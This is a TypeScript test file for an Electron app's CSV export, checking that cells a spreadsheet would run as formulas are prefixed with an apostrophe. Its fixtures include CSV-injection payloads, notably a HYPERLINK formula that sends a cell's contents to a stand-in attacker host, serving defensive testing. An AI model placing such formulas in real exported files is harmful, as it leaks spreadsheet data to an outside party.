import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { unappliedRowsCsv } from '../../../electron/dispositions/import/unapplied-export';
import { spreadsheetSafeCell } from '../../../electron/files/spreadsheet-safe-cell';
import type { ImportReport } from '../../../shared/dispositions/import-report';

const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '@SUM(9)', '+CMD', '-2+3', '\tTAB', '\rCR'];

function reportWith(cells: string[]): ImportReport {
  return {
    jobId: 'j-1',
    contentHash: 'h',
    fileName: 'calls.csv',
    dryRun: false,
    state: 'finished',
    startedAt: '2026-12-01T00:00:00.000Z',
    finishedAt: '2026-12-01T00:01:00.000Z',
    total: cells.length,
    counts: { applied: 0, noop: 0, rejected: cells.length, superseded: 0, failed: 0, pending: 0, waitingBusy: 0 },
    latencyMs: { p50: null, p95: null },
    wallMs: 1,
    suppressed: [],
    notificationsQueued: 0,
    problems: cells.map((cell, index) => ({ line: index + 2, campaignId: cell, contactId: cell, outcomeCode: cell, result: 'rejected', reason: cell })),
    warnings: [],
  };
}

describe('CSV cells a spreadsheet would run as formulas', () => {
  it('the one helper prefixes = + - @ tab and CR with an apostrophe and leaves other text alone', () => {
    for (const formula of formulas) expect(spreadsheetSafeCell(formula)).toBe(`'${formula}`);
    expect(spreadsheetSafeCell('Spring sale')).toBe('Spring sale');
    expect(spreadsheetSafeCell('')).toBe('');
  });

  it('the unapplied-rows export neutralises every text cell taken from the file', () => {
    const rows = parse(unappliedRowsCsv(reportWith(formulas)), { relax_column_count: true }) as string[][];
    const [header, ...body] = rows;
    expect(header).toEqual(['line', 'campaign_id', 'contact_id', 'outcome_code', 'result', 'reason']);
    body.forEach((row, index) => {
      const formula = formulas[index];
      expect(row.slice(1, 4)).toEqual([`'${formula}`, `'${formula}`, `'${formula}`]);
      expect(row[5]).toBe(`'${formula}`);
      expect(row[0]).toBe(String(index + 2));
    });
  });
});
